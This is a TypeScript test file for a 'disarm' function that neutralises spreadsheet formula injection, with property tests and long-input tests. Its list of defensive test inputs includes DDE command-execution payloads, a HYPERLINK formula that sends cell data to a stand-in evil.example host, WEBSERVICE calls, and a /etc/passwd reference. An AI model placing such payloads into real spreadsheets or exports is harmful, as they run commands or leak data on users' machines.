import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { kindsIn } from '../../src/values/characters.js';
import { disarm, isSigned } from '../../src/values/formula.js';

const RUNS = [
  '=1+1', '=SUM(A1:A10)', '=HYPERLINK("http://evil.example/?x="&A1,"click")', `=cmd|' /C calc'!A0`, '=A1', '==1', '=+1', '=-1',
  `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `-cmd|'/C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, '@SUM(A1)', '@sum (1)', '+SUM(A1)', '-SUM(A1)', '- SUM(A1)',
  '-A1', '+A1', '-1+A1', '+1+HYPERLINK("x")', '+1*INDIRECT("A1")', '\uff1d1+1', '\uff1dSUM(A1)', '\uff0bSUM(A1)', '\uff20SUM(A1)', ' =1+1', '\t=1+1', '\r=1+1', '\n=1+1', '\u00a0=1+1', '\ufeff=1+1', '\u200b=1',
  `=DDE("cmd";"/C calc";"x")`, '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")', '+WEBSERVICE("http://evil.example")', '=\'file:///etc/passwd\'#$Sheet1.A1',
  '-(A1)', '+(SUM(A1))', '-"a"&A1', '=-cmd|x!y', '+-SUM(1)', '--SUM(1)', '+=SUM(1)', '-@SUM(1)', '="a"&B1', '="a"+SUM(1)', '+1-800-FLOWERS', '-1|x', '- x!A1', '- note=WEBSERVICE("http://evil.example")',
  '+\u0421\u0423\u041c\u041c(A1)', '=IF(1,2,3)', '={1}', '-{A1}', '+$A$1', '-_xlfn.WEBSERVICE("x")', '@acme!A1', '+12|x', '=\u00a01', '-1*SUM(1)', '-1 *SUM(1)', '+1;SUM(A1)', "+'x'!A1",
  '- SUM (A1)', '-HYPERLINK ("x")', '- see WEBSERVICE("x")', '- see HYPERLINK ("http://evil.example")', '- see SUM (A1)', '- A1+B1', '-none-(A1)', '-cmd|x-', '- a1 * b2',
];
const HARMLESS = [
  '', 'Ann', '44', '+', '-', '--', '---', '=', '@', '\u2013', '.', '+44 20 7946 0958', '+1 (512) 555-0100 ext. 5', '+1 512 555 0100 x5', '+49 30 1234567 Durchwahl 12', '+1-555-0199', '+1234567890', '+33 (0)6 12 34 56 78',
  '-100', '- 100', '-12.5%', '-1,234.56', '-1.5E+10', '+1.5e-3', '-\u20ac5', '-100 USD', '-5 years', '- call back', '- call back on Monday, not interested', '- follow-up', '+ great fit', '+1 512 555 0100 (mobile)',
  "'=1+1", "'@SUM(A1)", "'+cmd|x", '@acme', '@acme_inc', '@Acme.Inc', 'ann@acme.com', 'a=b', '1+1', 'x|y', '="00123"', '="(703) 439-9049"', '="say ""hi"""', '"=1+1"', '(=1)', '\u674e\u96f7', 'O\u2019Brien', '+4930123456', '\uff0b81 3 1234 5678', '-1/2', '+1/1', '-2+3', '*', '#REF!', '%', '- great!', '- said "call me"',
  '- called (no answer)', '- call back at 5, ask for Ann', '- met in Q3, demo agreed', '-none-', '--None--', '- Select -', '-- not set --',
];

describe('disarm', () => {
  test.each(RUNS)('%j gets an apostrophe', (text) => expect(disarm(text)).toBe(`'${text}`));
  test.each(HARMLESS)('%j stays', (text) => expect(disarm(text)).toBe(text));

  test('is idempotent, only ever adds an apostrophe and never leaves a call to run', () => {
    const text = fc.array(fc.constantFrom('=', '+', '-', '@', '|', '!', '(', 'A1', 'cmd', ' ', '\t', '\r', '\u00a0', '7', '"', "'", '\uff1d', '.', 'ext', '\ud800'), { maxLength: 12 }).map((parts) => parts.join(''));
    fc.assert(fc.property(fc.oneof(text, fc.string({ unit: 'binary' })), (cell) => {
      const safe = disarm(cell);
      expect(safe === cell || safe === `'${cell}`).toBe(true);
      expect(disarm(safe)).toBe(safe);
      expect(/^[\s\ufeff]*[=+\-@\uff1d].*[|]/su.test(safe) && safe.trim().length > 1 && !/^[\s\ufeff]*[=\uff1d]"[^"]*"\s*$/u.test(safe)).toBe(false);
    }), { numRuns: 3000 });
  });

  test('a sign and no letters run nowhere', () => {
    let signed = 0;
    fc.assert(fc.property(fc.constantFrom('+', '-', '=', '@', ''), fc.array(fc.constantFrom('=', '+', '-', '@', '|', '!', '(', ')', ' ', '7', '49', '"', '.', '1E', 'x'), { maxLength: 8 }), (sign, rest) => {
      const text = sign + rest.join('');
      if (!isSigned(text.charCodeAt(0), kindsIn(text))) return;
      signed++;
      expect(disarm(text)).toBe(text);
    }), { numRuns: 5000 });
    expect(signed).toBeGreaterThan(500);
  });

  // A pattern that goes over the cell again and again would not come to an end.
  test.each([
    ['-' + ' '.repeat(200_000) + 'a'], ['+' + '1'.repeat(200_000) + 'x'], ['-' + 'a'.repeat(200_000)], ['=' + '"'.repeat(200_000)],
    ['-1' + 'a '.repeat(100_000)], ['-1' + 'a'.repeat(200_000)], ['- ab ' + '-'.repeat(200_000) + 'a'],
  ])('takes a long cell', (long) => expect([long, `'${long}`]).toContain(disarm(long)));
});
